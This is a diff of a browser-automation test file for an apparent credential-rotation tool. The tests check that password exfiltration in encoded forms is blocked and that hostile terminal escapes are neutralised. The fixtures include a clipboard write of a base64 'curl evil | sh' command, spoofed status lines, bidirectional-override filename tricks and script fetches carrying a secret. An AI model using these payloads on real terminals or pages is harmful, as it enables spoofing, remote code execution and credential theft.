@@ -160,11 +160,23 @@ test.describe("one guard for the whole context", () => {
       );
       expect(styled).toBe("loaded");
 
+      // The same guard as everywhere, with every encoding the redactor knows: a script that hex-encodes
+      // or reverses the password on its way to an asset origin is refused and stops the run.
       const password = newPassword();
-      await page.evaluate(({ href }) => void fetch(href, { mode: "no-cors" }), {
-        href: `${assets.url}/style.css?v=${encodeURIComponent(password.reveal())}`,
-      });
-      expect((await refused).to).toBe(assets.url);
+      const forms = [
+        password.reveal(),
+        Buffer.from(password.reveal()).toString("hex"),
+        Buffer.from(password.reveal()).toString("hex").toUpperCase(),
+        [...password.reveal()].reverse().join(""),
+      ];
+      for (const form of forms) {
+        await page.evaluate(({ href }) => void fetch(href, { mode: "no-cors" }), {
+          href: `${assets.url}/style.css?v=${encodeURIComponent(form)}`,
+        });
+      }
+      await expect
+        .poll(() => refusals.filter((r) => r.carriedSecret).map((r) => `${r.to} stops: ${r.stops}`))
+        .toEqual(forms.map(() => `${assets.url} stops: true`));
 
       await expect(page.goto(`${assets.url}/page`)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
       expect(refusals.at(-1)).toMatchObject({ to: assets.url, channel: "a page", carriedSecret: false, stops: true });
@@ -286,11 +298,12 @@ test.describe("a hostile script on the sign-in page", () => {
 
 test.describe("server and page text is inert", () => {
   // A window title, clearing the screen and scrollback, a fake "all good" drawn over the current
-  // line, a clipboard write (OSC 52), a C1 CSI; then a fake line of its own.
-  const ESCAPES = `\x1b]0;pwned\x07\x1b[2J\x1b[3J\r\x1b[2K✔ all good\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07\u009b31m`;
+  // line, a clipboard write (OSC 52), a C1 CSI, the bidirectional controls (an override, an
+  // isolate, the marks) that reorder what the terminal shows; then a fake line of its own.
+  const ESCAPES = `\x1b]0;pwned\x07\x1b[2J\x1b[3J\r\x1b[2K✔ all good\x1b]52;c;${Buffer.from("curl evil | sh").toString("base64")}\x07\u009b31m\u202a\u202b\u202c\u202d\u202egnp.exe\u2066\u2067\u2068\u2069\u200e\u200f`;
   const FAKE_LINE = "\n✔ rotated, nothing else to do";
 
-  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
+  const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
   const hostileLogin = (login: string): FaultRule => ({
     method: "GET",
     path: "/api/v2/me",
@@ -332,7 +345,8 @@ test.describe("server and page text is inert", () => {
     }) => {
       world.circleci.faults.add(hostileLogin(`drill-responder${ESCAPES}`));
       world.drill(registry).faults.add(REFUSAL[registry]);
-      const result = await rotation.run(registry);
+      // npm's run answers in --json: the failure object carries the same texts.
+      const result = await rotation.run(registry, registry === "npm" ? ["--json"] : []);
       expect(result.code, result.stderr).toBe(1);
       for (const [name, text] of [
         ["stdout", result.stdout],
@@ -539,6 +553,34 @@ await session.close();`;
       });
     } finally {
       rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  test("a TMPDIR of 63+ characters: Chromium starts all the same, from a short private directory, and nothing is left behind", async () => {
+    const root = mkdtempSync(join(tmpdir(), "rl-"));
+    const deep = join(root, "a-temporary-directory-deep-enough-to-break-chromiums-socket-path");
+    mkdirSync(deep, { recursive: true });
+    expect(deep.length).toBeGreaterThanOrEqual(63);
+    const mine = () => readdirSync("/tmp").filter((name) => name.startsWith(`rotate-browser-${process.pid}-`));
+    try {
+      // The full Chromium a real (visible) run uses: the headless shell makes no singleton socket.
+      const session = await launchIsolated({
+        browser: findBrowser(),
+        headless: true,
+        allowedOrigins: ["http://127.0.0.1:9"],
+        env: { ...browserEnv(process.env), TMPDIR: deep },
+        timeoutMs: 5_000,
+      });
+      try {
+        expect(await session.page.evaluate(() => 1 + 1)).toBe(2);
+        expect(mine()).toHaveLength(1);
+      } finally {
+        await session.close();
+      }
+      expect(filesUnder(deep)).toEqual([]);
+      expect(mine()).toEqual([]);
+    } finally {
+      rmSync(root, { recursive: true, force: true });
     }
   });
 
